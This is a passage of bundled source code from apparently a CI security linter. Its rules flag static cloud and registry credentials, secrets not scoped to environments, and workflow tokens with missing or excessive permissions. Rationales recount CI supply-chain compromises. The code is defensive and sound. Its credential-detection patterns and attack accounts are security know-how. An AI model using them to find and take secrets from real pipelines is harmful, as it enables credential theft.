    const password = credential_inputs_scalarOf(container.credentials, 'password');
    if (password === undefined || container.image === undefined)
        return undefined;
    const found = registryUse(container.image.value, '', password.value, scope);
    return found?.credential === 'ghcr' ? use('ghcr', 'credentials.password', found.source, password, true) : undefined;
}
function registryUse(registry, user, password, scope) {
    const source = (0,value_source/* sourceOf */.v)(password, scope);
    if (!isStatic(source))
        return undefined;
    const credential = user.trim().startsWith('_json_key') ? 'gar' : registryCredential(registry, scope);
    return credential === undefined ? undefined : { credential, source: nameOfSource(source) };
}
function registryCredential(registry, scope) {
    const resolved = (0,value_source/* sourceOf */.v)(registry, scope);
    const text = resolved.kind === 'literal' ? resolved.text : registry;
    const host = text
        .slice(0, 2000)
        .replace(/\$\{\{.*?\}\}/g, 'x')
        .trim()
        .replace(/^https?:\/\//i, '')
        .replace(/\/.*/s, '')
        .replace(/:\d+$/, '');
    return registryCredentials.find((item) => item.host.test(host))?.credential;
}

;// CONCATENATED MODULE: ./build/src/rules/support/credential-variables.js




const kinds = new Map(staticCredentialTables.variables.flatMap(({ credential, names }) => names.map((name) => [name, credential])));
function credentialOfVariable(name) {
    return kinds.get(name.toUpperCase());
}
function credentialVariables(env, scope) {
    const found = new Map();
    for (const { name, value } of env) {
        const credential = credentialOfVariable(name.value);
        if (credential === undefined || value.kind !== 'scalar' || found.has(credential))
            continue;
        if (isForeignStore(credential, [env, ...scope.env]))
            continue;
        const source = (0,value_source/* sourceOf */.v)(value.value, scope);
        if (isStaticVariable(name.value, source))
            found.set(credential, variableUse(credential, name.value, source, value.span));
    }
    return [...found.values()];
}
function isStaticVariable(name, source) {
    return isStatic(source) && !(name.toUpperCase() === 'GOOGLE_APPLICATION_CREDENTIALS' && source.kind === 'variable');
}
function variableUse(credential, name, source, span) {
    return { how: 'variable', credential, place: name, source: nameOfSource(source), span, severity: 'high', confidence: 'high' };
}

;// CONCATENATED MODULE: ./build/src/rules/support/credential-commands.js








const credential_commands_maxPipe = 20;
function credentialCommands(run, scope) {
    const commands = (0,run_commands/* runCommands */.a)(run);
    const found = new Map();
    const isTestKey = signsForTests(commands);
    const add = (use) => {
        if (use !== undefined && !found.has(use.credential) && !(use.credential === 'cosign' && isTestKey))
            found.set(use.credential, use);
    };
    for (const [index, command] of commands.entries()) {
        const program = (0,shell/* programOf */.o)(command);
        const before = commands.slice(Math.max(0, index - credential_commands_maxPipe), index);
        if (program !== undefined)
            add(loginUse(command, program, before, scope));
        for (const [text, span] of assignmentsIn(command, run.value))
            add(assignmentUse(text, span, scope));
    }
    const isForeign = commands.some((command) => command.words.some((word) => /^--endpoint(?:-url)?(?:=|$)/.test(word.text)));
    return [...found.values()].filter((use) => use.credential !== 'aws' || !isForeign);
}
function signsForTests(commands) {
    const texts = commands
        .flatMap((command) => [...command.words, ...command.assignments.map(({ value }) => value)])
        .map((word) => word.text);
    return texts.some((text) => text === 'generate-key-pair' || /^(?:localhost|127\.0\.0\.1):\d/.test(text));
}
function loginUse(command, program, before, scope) {
    const registry = registryLogin(command, program, before, scope);
    const login = registry ?? loginOf(program);
    if (login === undefined)
        return undefined;
    const { credential, place, fallback } = login;
    const source = (0,value_source/* sourceOf */.v)(login.secret === '' ? (piped(command, before) ?? '') : login.secret, scope);
    const text = isStatic(source) ? nameOfSource(source) : fallback;
    if (text === undefined)
        return undefined;
    const isOwnRegistry = credential === 'ghcr';
    return {
        how: 'command',
        credential,
        place,
        source: text,
        span: command.span,
        severity: isOwnRegistry ? 'medium' : 'high',
        confidence: isOwnRegistry ? 'medium' : 'high',
    };
}
function loginOf({ name, arguments: words }) {
    const texts = words.map((word) => word.text);
    const [first, second, third] = texts;
    switch (name) {
        case 'aws':
            return first === 'configure' && second === 'set' && /(?:^|\.)aws_secret_access_key$/i.test(third ?? '')
                ? { credential: 'aws', place: 'aws configure set aws_secret_access_key', secret: texts[3] ?? '' }
                : undefined;
        case 'az':
            return azureLogin(texts, words);
        case 'gcloud':
            return texts.includes('activate-service-account')
                ? { credential: 'google', place: 'gcloud auth activate-service-account', secret: '', fallback: 'a key file' }
                : undefined;
        case 'vault':
            return vaultLogin(texts);
        case 'cosign':
            return cosignKey(texts, words);
        case 'infisical':
            return first === 'login'
                ? { credential: 'infisical', place: 'infisical login', secret: credential_commands_option(words, ['--client-secret']) ?? '' }
                : undefined;
        default:
            return undefined;
    }
}
function azureLogin(texts, words) {
    if (texts[0] === 'login' && !texts.some((text) => text.startsWith('--federated-token'))) {
        return { credential: 'azure', place: 'az login --service-principal', secret: credential_commands_option(words, ['-p', '--password']) ?? '' };
    }
    if (texts[0] === 'acr' && texts[1] === 'login')
        return { credential: 'acr', place: 'az acr login', secret: credential_commands_option(words, ['-p', '--password']) ?? '' };
    const key = credential_commands_option(words, ['--account-key', '--connection-string']);
    return texts[0] === 'storage' && key !== undefined ? { credential: 'azureStorage', place: 'az storage', secret: key } : undefined;
}
function vaultLogin(texts) {
    if (texts[0] === 'login') {
        const method = texts.map((text) => /^-{1,2}method=(.+)$/.exec(text)?.[1]).find((text) => text !== undefined) ?? 'token';
        if (/^(?:jwt|oidc|aws|gcp|azure|kubernetes|cf|oci)$/.test(method))
            return undefined;
        const values = texts.slice(1).filter((text) => !text.startsWith('-') && !/^(?:role|role_id|username|path)=/.test(text));
        return { credential: 'vault', place: 'vault login', secret: values.join(' ') };
    }
    const secret = texts.find((text) => /^(?:secret_id|password|token)=/.test(text));
    const isLogin = texts[0] === 'write' && texts.some((text) => /^auth\/[\w/-]+\/login(?:\/|$)/.test(text));
    return isLogin && secret !== undefined
        ? { credential: 'vault', place: 'vault write auth/.../login', secret: secret.slice(secret.indexOf('=') + 1) }
        : undefined;
}
function cosignKey(texts, words) {
    const verb = texts.find((text) => /^(?:sign|sign-blob|attest|attest-blob)$/.test(text));
    const key = credential_commands_option(words, ['--key']);
    if (verb === undefined || key === undefined)
        return undefined;
    if (/^(?:awskms|gcpkms|azurekms|hashivault|k8s|pkcs11|gitlab|github|tencentkms|alikms|yckms|sshagent):/i.test(key))
        return undefined;
    const place = `cosign ${verb} --key`;
    if (key.startsWith('env://'))
        return { credential: 'cosign', place, secret: `\${${key.slice(6)}}`, fallback: `the variable ${key.slice(6)}` };
    const isFile = /\.(?:key|pem)$/.test(key) || /^[</]|\$\(/.test(key);
    return { credential: 'cosign', place, secret: key, ...(isFile ? { fallback: 'a key file' } : {}) };
}
const registryClients = new Map([
    ['docker', ['login']],
    ['podman', ['login']],
    ['nerdctl', ['login']],
    ['buildah', ['login']],
    ['skopeo', ['login']],
    ['oras', ['login']],
    ['ko', ['login']],
    ['cosign', ['login']],
    ['crane', ['auth', 'login']],
    ['helm', ['registry', 'login']],
    ['regctl', ['registry', 'login']],
]);
const registryOptions = ['-u', '--username', '-p', '--password'];
function registryLogin(command, program, before, scope) {
    const verbs = registryClients.get(program.name);
    if (verbs === undefined || !verbs.every((verb, index) => program.arguments[index]?.text === verb))
        return undefined;
    const words = program.arguments.slice(verbs.length);
    const registry = words.find((word, index) => !word.text.startsWith('-') && !registryOptions.includes(words[index - 1]?.text ?? ''));
    const password = credential_commands_option(words, ['-p', '--password']) ?? piped(command, before);
    if (password === undefined)
        return undefined;
    const use = registryUse(registry?.text ?? '', credential_commands_option(words, ['-u', '--username']) ?? '', password, scope);
    return use === undefined ? undefined : { credential: use.credential, place: [program.name, ...verbs].join(' '), secret: password };
}
function piped(command, before) {
    const here = command.redirects.find((redirect) => redirect.operator === '<<<');
    if (here !== undefined)
        return here.target.text;
    const producer = before.findLast((item) => item.pipeline === command.pipeline && item.span.end <= command.span.start);
    const program = producer === undefined ? undefined : (0,shell/* programOf */.o)(producer);
    return program !== undefined && /^(?:echo|printf|write-output)$/i.test(program.name)
        ? program.arguments.map((word) => word.text).join(' ')
        : undefined;
}
function credential_commands_option(words, names) {
    for (const [index, { text }] of words.entries()) {
        if (names.includes(text))
            return words[index + 1]?.text;
        const name = names.find((item) => item.startsWith('--') && text.startsWith(`${item}=`));
        if (name !== undefined)
            return text.slice(name.length + 1);
    }
    return undefined;
}
function assignmentsIn(command, script) {
    const assigned = command.assignments.map(({ name, value, span }) => [`${name}=${value.text}`, span]);
    return [...assigned, ...printedLines(command, script).map((text) => [text, command.span])];
}
function isHandedOn(value) {
    if (!value.includes('$') || (0,shell_variables/* isMinted */.E7)(value))
        return false;
    const name = /^["']?\$(?:env:|\{env:|\{)?([A-Za-z_]\w{0,100})\}?["']?$/i.exec(value.trim())?.[1];
    return name === undefined || credentialOfVariable(name) === undefined;
}
function assignmentUse(text, span, scope) {
    const match = /^[ \t]*(?:export[ \t]+|-e|--env=)?(?:\$env:)?([A-Za-z_]\w{0,100})[ \t]*=[ \t]*/.exec(text);
    const name = match?.[1];
    const credential = name === undefined ? undefined : credentialOfVariable(name);
    if (match === null || name === undefined || credential === undefined)
        return undefined;
    const value = text.slice(match[0].length);
    const plain = value.trim().replace(/^(["'])(.*)\1$/s, '$2');
    const isPlain = !/[$`%]/.test(plain);
    if (!isPlain && !value.includes('${{') && !isHandedOn(value))
        return undefined;
    const source = (0,value_source/* sourceOf */.v)(isPlain ? plain : value, scope);
    return isStaticVariable(name, source) ? variableUse(credential, name, source, span) : undefined;
}

;// CONCATENATED MODULE: ./build/src/rules/secret/static-credential.js












/* harmony default export */ const static_credential = ((0,define_rule/* defineRule */.K)({
    meta: {
        id: 'secret/static-credential',
        title: 'A job logs in with a token that ends with the job wherever the other side accepts one',
        severity: 'high',
        lifecycle: 'stable',
        since: '0.1.0',
        stages: ['merge', 'deploy', 'posture'],
        presets: {
            recommended: { merge: 'warn', deploy: 'deny', posture: 'warn' },
            strict: { merge: 'deny', deploy: 'deny', posture: 'deny' },
        },
        unknown: { merge: 'warn', deploy: 'deny', posture: 'warn' },
        controls: [
            { framework: 'OWASP-NHI', id: 'NHI7:2025' },
            { framework: 'OWASP-NHI', id: 'NHI4:2025' },
            { framework: 'OWASP-NHI', id: 'NHI6:2025' },
            { framework: 'NIST-CSF', id: 'PR.AA-01' },
            { framework: 'NIST-CSF', id: 'PR.AA-03' },
            { framework: 'NIST-CSF', id: 'PR.AA-04' },
            { framework: 'NIST-800-207', id: 'T3' },
            { framework: 'NIST-800-207', id: 'T6' },
            { framework: 'OWASP-CICD', id: 'CICD-SEC-6' },
            { framework: 'OWASP-CICD', id: 'CICD-SEC-2' },
            { framework: 'SSDF', id: 'PO.5.1' },
        ],
        rationale: 'A stored key works from anywhere until somebody revokes it, and whatever runs in the job can read it. In March 2025 ' +
            'tj-actions/changed-files (CVE-2025-30066) printed the memory of the runner into public logs; in March 2026 the moved tags of ' +
            'trivy-action (CVE-2026-33634) did the same to every pipeline that used them, and a rotation that had missed one credential was what ' +
            'let the attacker in. A token that the job gets by its own identity ends with the job, names the workflow that asked for it, and ' +
            'leaves nothing to rotate. Findings are limited to systems that offer such a form.',
        remediation: 'Replace the stored credential by the federated form that the finding names, then revoke the credential and delete its secret.',
        messages: {
            input: '`{place}` gives {credential} from {from} to `{action}`: it stays valid after this job ends. Instead, {federated}',
            variable: '`{place}` holds {credential} from {from}: it stays valid after this job ends. Instead, {federated}',
            literal: '`{place}` holds {credential} that stands in the file: whoever reads the repository, or its history, has it. Revoke it now. Then {federated}',
            command: '`{place}` takes {credential} from {from}: it stays valid after this job ends. Instead, {federated}',
        },
        examples: [
            {
                title: 'An access key for AWS',
                files: {
                    '.github/workflows/deploy.yml': `on: push
jobs:
  deploy:
    runs-on: ubuntu-latest
    steps:
      - uses: aws-actions/configure-aws-credentials@v5
        with:
          aws-region: eu-central-1
          aws-access-key-id: \${{ secrets.AWS_ACCESS_KEY_ID }}
          aws-secret-access-key: \${{ secrets.AWS_SECRET_ACCESS_KEY }}
`,
                },
                expect: [{ message: 'input', path: '.github/workflows/deploy.yml', line: 10 }],
            },
            {
                title: 'A role for AWS',
                files: {
                    '.github/workflows/deploy.yml': `on: push
permissions:
  id-token: write
jobs:
  deploy:
    runs-on: ubuntu-latest
    steps:
      - uses: aws-actions/configure-aws-credentials@v5
        with:
          aws-region: eu-central-1
          role-to-assume: arn:aws:iam::123456789012:role/deploy
`,
                },
                expect: [],
            },
            {
                title: 'A client secret in the environment, and a login in a script',
                files: {
                    '.github/workflows/deploy.yml': `on: push
env:
  ARM_CLIENT_SECRET: \${{ secrets.ARM_CLIENT_SECRET }}
jobs:
  deploy:
    runs-on: ubuntu-latest
    steps:
      - run: echo "\${{ secrets.GAR_KEY }}" | docker login -u _json_key --password-stdin europe-docker.pkg.dev
`,
                },
                expect: [
                    { message: 'variable', path: '.github/workflows/deploy.yml', line: 3 },
                    { message: 'command', path: '.github/workflows/deploy.yml', line: 8 },
                ],
            },
            {
                title: "Docker Hub knows no federated login, and a package registry takes the job's own token",
                files: {
                    '.github/workflows/push.yml': `on: push
jobs:
  push:
    runs-on: ubuntu-latest
    steps:
      - uses: docker/login-action@v3
        with:
          username: acme
          password: \${{ secrets.DOCKERHUB_TOKEN }}
      - uses: docker/login-action@v3
        with:
          registry: ghcr.io
          username: acme
          password: \${{ github.token }}
`,
                },
                expect: [],
            },
        ],
        options: {},
        key: ['place', 'source', 'action'],
    },
    needs: ['workflows', 'actions'],
    evaluate({ workflows, actions }) {
        const callers = (0,workflow_callers/* callerSources */.qI)(workflows.items, actions.items);
        return [
            ...workflows.items.flatMap((workflow) => ofWorkflow(workflow, callers)),
            ...actions.items.flatMap((action) => ofAction(action, callers)),
        ];
    },
}));
function ofWorkflow(workflow, callers) {
    const { file } = workflow;
    const scope = (env) => ({
        env,
        before: steps_before/* noSteps */.j,
        ...callers(file),
        isScript: false,
    });
    const uses = [
        ...credentialVariables(workflow.env, scope([])),
        ...workflow.jobs.filter((job) => job.kind === 'steps').flatMap((job) => static_credential_ofJob(job, workflow, scope)),
    ];
    return [...uses.map((use) => static_credential_violation(use, file, '')), ...(0,step_site/* stepSites */.PX)(workflow).flatMap((site) => static_credential_ofStep(site, callers))];
}
function static_credential_ofJob(job, workflow, scope) {
    const containers = [job.container, ...job.services].filter((container) => container !== undefined);
    const inner = scope([job.env, workflow.env]);
    return [
        ...credentialVariables(job.env, scope([workflow.env])),
        ...containers.flatMap(({ env }) => credentialVariables(env, inner)),
        ...containers.flatMap((container) => imageCredential(container, inner) ?? []),
    ];
}
function ofAction(action, callers) {
    const scope = {
        env: [],
        before: steps_before/* noSteps */.j,
        ...callers(action.file),
        isScript: false,
    };
    const uses = action.runs.kind === 'docker' ? credentialVariables(action.runs.env, scope) : [];
    return [...uses.map((use) => static_credential_violation(use, action.file, '')), ...(0,step_site/* actionSites */.nd)(action).flatMap((site) => static_credential_ofStep(site, callers))];
}
function static_credential_ofStep(site, callers) {
    const { step, file, before } = site;
    const [own = [], ...outer] = site.env;
    const scope = {
        env: site.env,
        before,
        ...callers(file),
        isScript: false,
    };
    const uses = [];
    if (step.kind === 'uses')
        uses.push(...credentialInputs(step, scope).filter((use) => !isOuterVariable(file.text.slice(use.span.start, use.span.end), own)));
    if (step.kind === 'run') {
        const place = (0,span_in_file/* spanMapper */.g)(file.text, step.run);
        uses.push(...credentialCommands(step.run, { ...scope, isScript: true, script: step.run }).map((use) => ({ ...use, span: place(use.span) })));
    }
    uses.push(...credentialVariables(own, { ...scope, env: outer }));
    const first = uses.filter((use, index) => uses.findIndex((item) => item.credential === use.credential) === index);
    const action = step.kind === 'uses' ? nameOfUses(step.uses) : '';
    return first.map((use) => static_credential_violation(use, file, action));
}
function isOuterVariable(text, own) {
    const name = /^["']?\$\{\{\s*env\.(\w+)\s*\}\}["']?$/.exec(text)?.[1];
    return name !== undefined && credentialOfVariable(name) !== undefined && !own.some((item) => item.name.value === name);
}
function static_credential_violation(use, file, action) {
    const { name, federated } = staticCredentials[use.credential];
    return {
        kind: 'violation',
        message: use.source === writtenSource ? 'literal' : use.how,
        data: { place: use.place, credential: name, source: use.source, from: shownSource(use.source), action, federated },
        location: (0,locate/* locate */.x5)(file, use.span),
        severity: use.source === writtenSource ? 'critical' : use.severity,
        confidence: use.confidence,
    };
}

;// CONCATENATED MODULE: ./build/src/rules/secret/unscoped.js






const unscoped_maxRelated = 20;
/* harmony default export */ const unscoped = ((0,define_rule/* defineRule */.K)({
    meta: {
        id: 'secret/unscoped',
        title: 'Secrets of a job that deploys or publishes belong to an environment',
        severity: 'medium',
        lifecycle: 'stable',
        since: '0.1.0',
        stages: ['merge', 'deploy', 'posture'],
        presets: { recommended: 'audit', strict: 'warn' },
        unknown: { merge: 'audit', deploy: 'audit', posture: 'audit' },
        controls: [
            { framework: 'OWASP-NHI', id: 'NHI2:2025' },
            { framework: 'OWASP-NHI', id: 'NHI6:2025' },
            { framework: 'NIST-CSF', id: 'PR.AA-01' },
            { framework: 'NIST-CSF', id: 'PR.PS-01' },
            { framework: 'NIST-800-207', id: 'T3' },
            { framework: 'NIST-800-207', id: 'T4' },
            { framework: 'OWASP-CICD', id: 'CICD-SEC-6' },
            { framework: 'SSDF', id: 'PO.5.1' },
            { framework: 'SSDF', id: 'PW.9' },
        ],
        rationale: 'A secret of the repository is given to every job that asks, on every branch that somebody with write access can push. GhostAction ' +
            '(September 2025) took 3,325 secrets of 817 repositories with one pushed workflow that named them. A secret of an environment is given ' +
            'only to jobs that name the environment, after its reviewers agreed and on the branches that it admits.',
        remediation: 'Name an `environment` in the job, move its secrets there, delete them from the repository, and protect the environment by reviewers and branch rules.',
        messages: {
            unscoped: 'Job `{job}` runs `{by}` with {secrets} and names no `environment`: every branch can use these secrets. Add `environment:` and keep them there',
        },
        examples: [
            {
                title: 'A deploy with a secret of the repository',
                files: {
                    '.github/workflows/deploy.yml': `on: push
jobs:
  deploy:
    runs-on: ubuntu-latest
    steps:
      - run: kubectl apply -f deploy/
        env:
          TOKEN: \${{ secrets.CLUSTER_TOKEN }}
`,
                },
                expect: [{ message: 'unscoped', path: '.github/workflows/deploy.yml', line: 3 }],
            },
            {
                title: 'A deploy with a secret of an environment',
                files: {
                    '.github/workflows/deploy.yml': `on: push
jobs:
  deploy:
    runs-on: ubuntu-latest
    environment: production
    steps:
      - run: kubectl apply -f deploy/
        env:
          TOKEN: \${{ secrets.CLUSTER_TOKEN }}
`,
                },
                expect: [],
            },
        ],
        options: {},
        key: ['job', 'secrets'],
    },
    needs: ['workflows', 'actions'],
    evaluate({ workflows, actions }) {
        const purposes = new workflow_purposes/* Purposes */.e((0,local_actions/* localActions */.N)(actions.items));
        return workflows.items.flatMap((workflow) => {
            const used = usedSecrets(workflow);
            return workflow.jobs.flatMap((job) => job.kind === 'steps' && !isScoped(job.environment)
                ? unscoped_ofJob(workflow, job, purposes, [...(used.get(undefined) ?? []), ...(used.get(job) ?? [])])
                : []);
        });
    },
}));
function usedSecrets(workflow) {
    const used = new Map();
    for (const { job, embedded } of expressionsIn(workflow)) {
        for (const name of secretNamesOf(embedded.expression)) {
            const list = used.get(job) ?? [];
            used.set(job, list);
            list.push({ name, span: embedded.span });
        }
    }
    return used;
}
function isScoped(environment) {
    return environment !== undefined && environment.name.value.trim() !== '';
}
function unscoped_ofJob(workflow, job, purposes, used) {
    if (used.length === 0)
        return [];
    const purpose = purposes.ofJob(job, workflow.file).purposes.find(({ kind }) => kind === 'deploy' || kind === 'publish');
    if (purpose === undefined)
        return [];
    const first = new Map(used.toReversed().map((item) => [item.name, item]));
    const names = [...first.keys()].toSorted();
    return [
        {
            kind: 'violation',
            message: 'unscoped',
            data: { job: job.id.value, by: purpose.by, secrets: unscoped_listed(names) },
            location: (0,locate/* locate */.x5)(workflow.file, job.id.span),
            related: [
                { location: (0,locate/* locate */.x5)(workflow.file, purpose.span), message: `\`${purpose.by}\` runs here` },
                ...[...first.values()]
                    .toSorted((a, b) => a.span.start - b.span.start)
                    .slice(0, unscoped_maxRelated)
                    .map(({ name, span }) => ({ location: (0,locate/* locate */.x5)(workflow.file, span), message: `\`${name}\` is used here` })),
            ],
        },
    ];
}
function unscoped_listed(names) {
    return names.map((name) => `\`${name}\``).join(', ');
}

;// CONCATENATED MODULE: ./build/src/rules/workflow/default-permissions.js


const default_permissions_maxRelated = 50;
/* harmony default export */ const default_permissions = ((0,define_rule/* defineRule */.K)({
    meta: {
        id: 'workflow/default-permissions',
        title: 'Every job says what its token may do',
        severity: 'medium',
        lifecycle: 'stable',
        since: '0.1.0',
        stages: ['posture', 'merge', 'deploy'],
        presets: { recommended: 'warn', strict: 'deny' },
        advice: { recommended: 'audit', strict: 'deny' },
        unknown: { posture: 'warn', merge: 'warn', deploy: 'warn' },
        controls: [
            { framework: 'OWASP-NHI', id: 'NHI5:2025' },
            { framework: 'NIST-CSF', id: 'PR.AA-05' },
            { framework: 'NIST-800-207', id: 'T3' },
            { framework: 'OWASP-CICD', id: 'CICD-SEC-5' },
            { framework: 'SSDF', id: 'PO.5.1' },
        ],
        rationale: "Without `permissions` a job gets what the settings of the repository or organisation give to every token, and no reader of the file, and no reviewer of a change, knows what that is. Repositories made before February 2023 often give write access to everything. In August 2025 a token of that kind in a pull request workflow of Nx was enough to start its release with an attacker's code.",
        remediation: 'Write `permissions: {}` at the top of the workflow, and in each job only what its steps need, for example `permissions: {contents: read}` for a checkout.',
        messages: {
            unset: '{jobs} of this workflow {verb} no `permissions`: the token gets what the settings of the repository give{known}. Give nothing at the top of the workflow, and each job what it needs',
        },
        examples: [
            {
                title: 'Neither the workflow nor a job says it',
                files: { '.github/workflows/ci.yml': 'on: push\njobs:\n  build:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: make\n' },
                expect: [{ message: 'unset', path: '.github/workflows/ci.yml', line: 3 }],
            },
            {
                title: 'The same, where the settings are known to let every token write',
                files: { '.github/workflows/ci.yml': 'on: push\njobs:\n  build:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: make\n' },
                facts: { defaultToken: { canWrite: true, canApprovePullRequests: false } },
                expect: [{ message: 'unset', path: '.github/workflows/ci.yml', line: 3 }],
            },
            {
                title: 'The workflow gives nothing, and the job what it needs',
                files: {
                    '.github/workflows/ci.yml': 'on: push\npermissions: {}\njobs:\n  build:\n    runs-on: ubuntu-24.04\n    permissions:\n      contents: read\n    steps:\n      - run: make\n',
                },
                expect: [],
            },
            {
                title: 'A workflow that is only called gets what its caller gives',
                files: {
                    '.github/workflows/build.yml': 'on: workflow_call\njobs:\n  build:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: make\n',
                },
                expect: [],
            },
        ],
        options: {},
        key: ['workflow'],
    },
    needs: ['workflows'],
    wants: ['defaultToken'],
    evaluate({ workflows, defaultToken }) {
        const token = defaultToken.state === 'known' ? defaultToken.value : undefined;
        return workflows.items.filter((workflow) => !default_permissions_isOnlyCalled(workflow)).flatMap((workflow) => default_permissions_judge(workflow, token));
    },
}));
function default_permissions_judge(workflow, token) {
    if (workflow.permissions.kind !== 'unset')
        return [];
    const [first, ...others] = workflow.jobs.filter((job) => job.permissions.kind === 'unset');
    if (first === undefined)
        return [];
    return [
        {
            kind: 'violation',
            message: 'unset',
            data: {
                workflow: workflow.file.path.slice(workflow.file.path.lastIndexOf('/') + 1),
                jobs: default_permissions_namesOf(first, others),
                verb: others.length === 0 ? 'has' : 'have',
                known: token === undefined ? '' : `, which is ${token.canWrite ? 'the right to write nearly everything' : 'to read today'}`,
            },
            location: (0,locate/* locate */.x5)(workflow.file, first.id.span),
            related: others
                .slice(0, default_permissions_maxRelated)
                .map((job) => ({ location: (0,locate/* locate */.x5)(workflow.file, job.id.span), message: 'This job has none either.' })),
            ...(token?.canWrite === true ? {} : { isAdvice: true }),
        },
    ];
}
function default_permissions_namesOf(first, others) {
    if (others.length === 0)
        return `Job \`${first.id.value}\``;
    return `Job \`${first.id.value}\` and ${others.length} more`;
}
function default_permissions_isOnlyCalled(workflow) {
    return workflow.triggers.length > 0 && workflow.triggers.every((trigger) => trigger.event === 'workflow_call');
}

;// CONCATENATED MODULE: ./build/src/data/permission-keys.js
const both = ['read', 'write'];
const permissionKeys = {
    asOf: '2026-09-01',
    source: 'actions/languageservices, workflow-parser/src/workflow-v1.0.json',
    keys: {
        actions: { levels: both, risk: 'high', allows: 'start and cancel runs, and delete caches, logs and artifacts' },
        'artifact-metadata': { levels: both, risk: 'medium', allows: 'record where artifacts are stored and deployed' },
        attestations: { levels: both, risk: 'high', allows: 'attest artifacts in the name of the repository' },
        checks: { levels: both, risk: 'medium', allows: 'create check runs, and turn a required one green' },
        'code-quality': { levels: both, risk: 'medium', allows: 'upload and dismiss code quality results' },
        contents: { levels: both, risk: 'high', allows: 'push commits and tags, and publish releases' },
        'copilot-requests': { levels: ['write'], risk: 'medium', allows: 'make requests to Copilot at the cost of the organisation' },
        deployments: { levels: both, risk: 'high', allows: 'create deployments and set their status' },
        discussions: { levels: both, risk: 'medium', allows: 'edit, close and delete discussions' },
        drives: { levels: both, risk: 'medium', allows: 'write to the drives of the repository' },
        'id-token': { levels: ['write'], risk: 'high', allows: 'ask for an identity token, and with it for cloud credentials and signatures' },
        issues: { levels: both, risk: 'medium', allows: 'edit, comment and close issues' },
        models: { levels: ['read'], risk: 'medium', allows: 'use the GitHub Models inference API' },
        packages: { levels: both, risk: 'high', allows: 'publish and replace packages and images' },
        pages: { levels: both, risk: 'medium', allows: 'publish the site of the repository' },
        'pull-requests': { levels: both, risk: 'medium', allows: 'edit, label and approve pull requests' },
        'repository-projects': { levels: both, risk: 'medium', allows: 'edit classic projects' },
        'security-events': { levels: both, risk: 'high', allows: 'upload code scanning results and dismiss alerts' },
        statuses: { levels: both, risk: 'medium', allows: 'set commit statuses, and turn a required one green' },
        'vulnerability-alerts': { levels: ['read'], risk: 'medium', allows: 'read Dependabot alerts' },
    },
};
const byName = new Map(Object.entries(permissionKeys.keys));
function permissionKeyOf(scope) {
    return byName.get(scope);
}

;// CONCATENATED MODULE: ./build/src/rules/workflow/excessive-permissions.js




/* harmony default export */ const excessive_permissions = ((0,define_rule/* defineRule */.K)({
    meta: {
        id: 'workflow/excessive-permissions',
        title: 'Tokens that can write are given to single jobs, scope by scope',
        severity: 'medium',
        lifecycle: 'stable',
        since: '0.1.0',
        stages: ['posture', 'merge', 'deploy'],
        presets: { recommended: 'warn', strict: 'deny' },
        unknown: { posture: 'warn', merge: 'warn', deploy: 'warn' },
        controls: [
            { framework: 'OWASP-NHI', id: 'NHI5:2025' },
            { framework: 'NIST-CSF', id: 'PR.AA-05' },
            { framework: 'NIST-800-207', id: 'T3' },
            { framework: 'OWASP-CICD', id: 'CICD-SEC-5' },
            { framework: 'SSDF', id: 'PO.5.1' },
        ],
        rationale: 'What stands at the top of a workflow is given to all of its jobs, also to those that install dependencies, build and test: whoever gets code into one of them holds the token of the release. In May 2026 code in a build step read the identity token of a publishing job out of memory and published 84 versions of TanStack packages, although the publish step never ran (CVE-2026-45321).',
        remediation: 'Write `permissions: {}` (or `contents: read`) at the top of the workflow, and under `jobs.<id>.permissions` only the scopes that this job needs, each with its level.',
        messages: {
            'write-all': '`permissions: write-all` lets {whose} write to everything in the repository. List the scopes that are needed, each with its level',
            inherited: '{scopes} at the top of the workflow {verb} given to {count} jobs ({jobs}): with {worst} a step can {allows}. Give a write scope only to the job that needs it',
        },
        examples: [
            {
                title: 'A write scope for the test job too, and a token that may do anything',
                files: {
                    '.github/workflows/release.yml': 'on: push\npermissions:\n  contents: read\n  id-token: write\njobs:\n  test:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: make test\n  release:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: make release\n  label:\n    runs-on: ubuntu-24.04\n    permissions: write-all\n    steps:\n      - run: make label\n',
                },
                expect: [
                    { message: 'inherited', path: '.github/workflows/release.yml', line: 4 },
                    { message: 'write-all', path: '.github/workflows/release.yml', line: 16 },
                ],
            },
            {
                title: 'The only job of a workflow, and a job with its own block',
                files: {
                    '.github/workflows/one.yml': 'on: push\npermissions:\n  contents: write\njobs:\n  release:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: make release\n',
                    '.github/workflows/two.yml': 'on: push\npermissions:\n  contents: read\njobs:\n  test:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: make test\n  release:\n    runs-on: ubuntu-24.04\n    permissions:\n      contents: write\n    steps:\n      - run: make release\n',
                },
                expect: [],
            },
        ],
        options: {},
        key: ['job', 'scopes'],
    },
    needs: ['workflows'],
    evaluate({ workflows }) {
        return workflows.items.flatMap((workflow) => [...excessive_permissions_ofWorkflow(workflow), ...workflow.jobs.flatMap((job) => excessive_permissions_ofJob(workflow, job))]);
    },
}));
function excessive_permissions_ofJob({ file }, { id, permissions }) {
    if (permissions.kind !== 'all' || permissions.level !== 'write')
        return [];
    return [writeAll((0,locate/* locate */.x5)(file, permissions.span), id.value, `job \`${id.value}\``)];
}
function excessive_permissions_ofWorkflow(workflow) {
    const { file, permissions } = workflow;
    const heirs = workflow.jobs.filter((job) => job.permissions.kind === 'unset');
    if (heirs.length === 0)
        return [];
    switch (permissions.kind) {
        case 'unset':
            return [];
        case 'all':
            return permissions.level === 'write' ? [writeAll((0,locate/* locate */.x5)(file, permissions.span), '', jobsText(heirs))] : [];
        case 'scopes':
            return heirs.length < 2 ? [] : inherited(workflow, heirs, writesOf(permissions.scopes));
    }
}
function inherited({ file }, heirs, writes) {
    const [worst, ...others] = writes;
    if (worst === undefined)
        return [];
    const names = writes.map((entry) => `\`${entry.scope}: write\``);
    return [
        {
            kind: 'violation',
            message: 'inherited',
            data: {
                job: '',
                scopes: names.toSorted(core_location/* compareText */.n6).join(', '),
                verb: writes.length === 1 ? 'is' : 'are',
                count: String(heirs.length),
                jobs: excessive_permissions_listed(heirs),
                worst: `\`${worst.scope}: write\``,
                allows: permissionKeyOf(worst.scope)?.allows ?? 'do what GitHub may let this scope do',
            },
            location: (0,locate/* locate */.x5)(file, worst.span),
